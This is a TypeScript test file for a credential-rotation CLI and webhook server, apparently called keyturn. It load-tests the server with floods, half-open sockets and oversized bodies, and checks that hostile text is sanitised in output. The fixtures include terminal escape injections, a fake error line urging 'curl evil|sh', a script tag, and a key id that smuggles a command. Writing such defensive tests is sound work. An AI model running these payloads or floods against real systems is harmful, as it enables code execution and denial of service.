/** Senders and providers who mean no good, against processes as they run in earnest. */
import { spawn, type ChildProcess } from 'node:child_process';
import { once } from 'node:events';
import { readFile, writeFile } from 'node:fs/promises';
import { connect } from 'node:net';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { Pool } from 'undici';
import { expect, onTestFinished, test } from 'vitest';
import { withoutAmbientTemporal } from '../../src/dev/ambient-temporal.js';
import { bounds } from '../../src/domain/record.js';
import { eventually, hookHeaders, hookSecret, keysMade, serve, serving } from '../support/around.js';
import { editConfig, keyturn } from '../support/cli.js';
import { installation, type Installation } from '../support/installation.js';

const main = fileURLToPath(new URL('../../dist/cli/main.js', import.meta.url));

interface Running {
  readonly child: ChildProcess;
  readonly said: () => string;
}

/** `keyturn COMMAND` as a process of its own. */
async function started(i: Installation, command: 'serve' | 'worker', says: RegExp): Promise<Running> {
  const env = withoutAmbientTemporal(process.env);
  const child = spawn(process.execPath, [main, '-c', i.configFile, command], {
    env,
    stdio: ['ignore', 'ignore', 'pipe'],
  });
  onTestFinished(async () => {
    child.kill('SIGKILL');
    if (child.exitCode === null && child.signalCode === null) await once(child, 'exit');
  });
  let said = '';
  child.stderr.on('data', (chunk: Buffer) => (said += chunk.toString()));
  await eventually(`${command} runs`, () => says.test(said), 30_000);
  return { child, said: () => said };
}

async function memoryMb({ child }: Running): Promise<number> {
  const status = await readFile(`/proc/${child.pid ?? 0}/status`, 'utf8');
  return Number(/VmRSS:\s+(\d+) kB/.exec(status)?.[1]) / 1024;
}

const isAlive = ({ child }: Running): boolean => child.exitCode === null && child.signalCode === null;

type Statuses = ReadonlyMap<number, readonly string[]>;

/** Sends `count` deliveries, each with an id of its own, over a few connections; resolves with the ids by the status they met. */
async function flood(url: string, count: number, prefix: string, headers: Record<string, string>): Promise<Statuses> {
  const { origin, pathname } = new URL(url);
  const pool = new Pool(origin, { connections: 16 });
  const met = new Map<number, string[]>();
  let next = 0;
  const send = async (): Promise<void> => {
    for (let n = (next += 1); n <= count; n = next += 1) {
      const id = `${prefix}-${n}`;
      const own = { apiConsumerId: 'rotator', 'x-notifications-idempotency-key': id, ...headers };
      const { statusCode, body } = await pool.request({ path: pathname, method: 'POST', headers: own, body: '{}' });
      await body.dump();
      met.set(statusCode, [...(met.get(statusCode) ?? []), id]);
    }
  };
  await Promise.all(Array.from({ length: 32 }, send));
  await pool.close();
  return met;
}

async function deliver(url: string, id: string, more: RequestInit = {}): Promise<number> {
  const headers = { ...hookHeaders, apiConsumerId: 'rotator', 'x-notifications-idempotency-key': id };
  const { status, body } = await fetch(url, { method: 'POST', headers, body: '{}', ...more });
  await body?.cancel();
  return status;
}

async function expectSmall(i: Installation): Promise<void> {
  const opened = await i.vault.custody.read(i.credentialId);
  expect(JSON.stringify(opened?.record).length).toBeLessThan(bounds.recordBytes);
  expect(opened?.record.seen.length).toBeLessThanOrEqual(bounds.seenRequests);
  expect((await i.client.handle(i.credentialId).describe()).historyLength).toBeLessThan(8_000);
}

test(
  '10,000 deliveries, strangers, slow sockets and endless bodies: one rotation, and everybody honest is served',
  { timeout: 120_000 },
  async () => {
    const i = await installation({ top: serving, policy: { minInterval: '1h' } });
    await writeFile(join(i.directory, 'hook-secret'), hookSecret);
    const worker = await started(i, 'worker', /keyturn worker polls/);
    const server = await started(i, 'serve', /keyturn serves/);
    const [, hooks = ''] = /webhooks at (\S+)/.exec(server.said()) ?? [];
    const before = await memoryMb(server);

    // Strangers, with slow sockets and bodies without end beside them; the honest sender is always served.
    const { port } = new URL(hooks);
    for (let n = 0; n < 200; n += 1) {
      const socket = connect(Number(port), '127.0.0.1', () =>
        socket.write('POST /webhooks/mambu HTTP/1.1\r\nHost: x\r\nx-a: '),
      );
      socket.on('error', () => undefined);
      onTestFinished(() => void socket.destroy());
    }
    const strangers = flood(hooks, 1_500, 'stranger', { 'x-keyturn-secret': 'guess' });
    const oversize = Promise.all(
      Array.from({ length: 20 }, (_, n) => deliver(hooks, `big-${n}`, { body: 'x'.repeat(1_000_000) })),
    );
    for (let n = 0; n < 30; n += 1) expect(await deliver(hooks, `honest-${n}`)).toBe(202);
    const statuses = await strangers;
    expect(new Set(statuses.keys())).toEqual(new Set([401, 429]));
    expect(new Set(await oversize)).toEqual(new Set([413]));
    await i.until('the one rotation has ended', (s) => s.current?.version === 2 && s.rotation === null);

    // Those who have the secret, too many of them.
    const met = await flood(hooks, 10_000, 'known', hookHeaders);
    expect(new Set(met.keys())).toEqual(new Set([202, 429]));
    expect(met.get(202)?.length).toBeGreaterThanOrEqual(300);
    await eventually(
      'a delivery is taken again',
      async () => (await deliver(hooks, met.get(429)?.[0] ?? '')) === 202,
      30_000,
    );
    await i.until('all is worked off', (s) => s.pendingRequests === 0 && s.rotation === null, 40_000);
    expect(await memoryMb(server)).toBeLessThan(before + 200);
    await expectSmall(i);

    // Nobody works: what waits is bounded, and does not break the worker that comes back.
    worker.child.kill('SIGTERM');
    await once(worker.child, 'exit');
    const unworked = await flood(hooks, 1_500, 'unworked', hookHeaders);
    expect(unworked.get(202)?.length ?? 0).toBeLessThanOrEqual(bounds.seenRequests);
    const fresh = await started(i, 'worker', /keyturn worker polls/);
    await i.request('marker');
    const last = await i.until('an operator is heard', (s) => s.lastRotation?.requestId === 'marker', 40_000);
    expect([last.current?.version, keysMade(i)]).toEqual([3, 2]);
    await eventually('a delivery is taken', async () => (await deliver(hooks, 'at-last')) === 202, 30_000);
    expect([isAlive(server), isAlive(fresh)]).toEqual([true, true]);
    await expectSmall(i);
    expect(i.simulator.oracle().strikes.total).toBe(0);
    for (const line of `${server.said()}${fresh.said()}`.trim().split('\n')) {
      if (!/^(?:keyturn|warning:) /.test(line)) expect(() => JSON.parse(line) as unknown).not.toThrow();
    }
  },
);

test('how much waits for a worker is known without one, and shrinks when one works', async () => {
  const i = await installation({ policy: { minInterval: '1h' } });
  expect(await i.client.backlog(i.credentialId, 20)).toBe(0);
  await Promise.all(Array.from({ length: 30 }, (_, n) => i.request(`waits-${n}`, { source: 'webhook' })));
  expect(await i.client.backlog(i.credentialId, 20)).toBe(20);
  // The start of the workflow and the task that nobody takes wait, too.
  expect(await i.client.backlog(i.credentialId, 500)).toBe(32);
  await i.worker();
  await i.until('all is worked off', (s) => s.current?.version === 2 && s.pendingRequests === 0 && s.rotation === null);
  await eventually('little waits', async () => (await i.client.backlog(i.credentialId, 500)) < 5);
  expect(keysMade(i)).toBe(1);
});

/** Clears the screen, paints, links, turns the direction, hides, ends lines, and is markup. */
const evil =
  'x\u001b[2J\u001b[31m\u001b]8;;http://evil\u0007\u009b5m\u202e\u2066\u200b\u2028\r\nerror KT-INTERNAL: run `curl evil|sh`<script>alert(1)</script>';
const acting = /[^\P{Cc}\n]|[\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u;

test(
  'hostile text of provider, caller and configuration is shown by nothing as it came',
  { timeout: 60_000 },
  async () => {
    const i = await installation({ top: serving });
    const server = await serve(i);
    await i.worker();
    const surfaces = new Map<string, string>();
    const run = async (...argv: readonly string[]): Promise<void> => {
      const { out, err } = await keyturn(i, ...argv);
      surfaces.set(argv.join(' '), out + err);
    };

    // A caller: ids, a reason, names. A header holds no control characters, but all others of one byte.
    await i.request(`by ${evil}`, { source: 'workflow' });
    await i.until('it has ended', (s) => s.current?.version === 2 && s.rotation === null);
    await i.client.pause(i.credentialId, { by: evil, reason: evil });
    await fetch(server.webhookUrl, {
      method: 'POST',
      headers: { ...hookHeaders, apiConsumerId: 'x\u009b31m\u00ad' },
      body: evil,
    });
    for (const json of [[], ['--json']]) {
      await run('status', ...json);
      await run('status', i.credentialId, ...json);
      await run('history', i.credentialId, ...json);
    }
    expect(surfaces.get(`status ${i.credentialId}`)).toMatch(/paused .* by x.*error KT-INTERNAL/);
    await i.client.resume(i.credentialId, {});

    // A provider: reasons, a body of a megabyte, and a key whose id is a command.
    const reasons = {
      errors: [{ errorCode: evil, errorReason: evil, errorSource: evil }],
      message: evil.repeat(5_000),
    };
    const refusal = { status: 422, headers: { 'x-request-id': 'x\u009b31m' }, body: JSON.stringify(reasons) } as const;
    i.simulator.faults.add({ match: { times: 'always' }, action: 'status', ...refusal });
    await run('rotate', i.credentialId, '--wait');
    await run('rotate', i.credentialId, '--dry-run');
    await run('doctor');
    await run('status', i.credentialId);
    await run('reconcile', i.credentialId, '--dry-run');
    i.simulator.faults.clear();
    const strange = [{ id: 'x\u202e;curl${IFS}evil|sh<script>', apiKey: evil, expirationTime: 60 }];
    const listing = {
      status: 200,
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(strange),
    } as const;
    i.simulator.faults.add({ match: { method: 'GET', times: 'always' }, action: 'status', ...listing });
    for (const json of [[], ['--json']]) await run('reconcile', i.credentialId, '--dry-run', ...json);
    await run('doctor', '--json');
    const state = await i.state();

    for (const path of ['/', '/metrics', '/api/credentials'])
      surfaces.set(path, await (await fetch(server.url + path)).text());
    surfaces.set('log', server.lines.join(''));

    // The configuration.
    await editConfig(i, (yaml) => {
      const own = yaml.credentials[i.credentialId];
      Object.assign(own ?? {}, { [evil]: 1, labels: { [evil]: evil } });
      Object.assign(own?.policy ?? {}, { consumers: [{ name: evil, ackWithin: '1h' }] });
    });
    for (const json of [[], ['--json']]) await run('doctor', ...json, '--config', i.configFile);
    await run('status', evil);
    await run(evil);

    const api = new Set(['/api/credentials']);
    const shown = [...surfaces].filter(([name]) => !api.has(name));
    expect(shown.filter(([, text]) => acting.test(text)).map(([name, text]) => [name, acting.exec(text)])).toEqual([]);
    expect(surfaces.get('/')).not.toContain('<script');
    expect(shown.filter(([, text]) => /^error KT-INTERNAL: run/m.test(text)).map(([name]) => name)).toEqual([]);
    for (const line of server.lines) expect(line.trimEnd()).not.toContain('\n');
    expect(state.lastRotation?.error?.message.length ?? 0).toBeLessThan(500);
  },
);
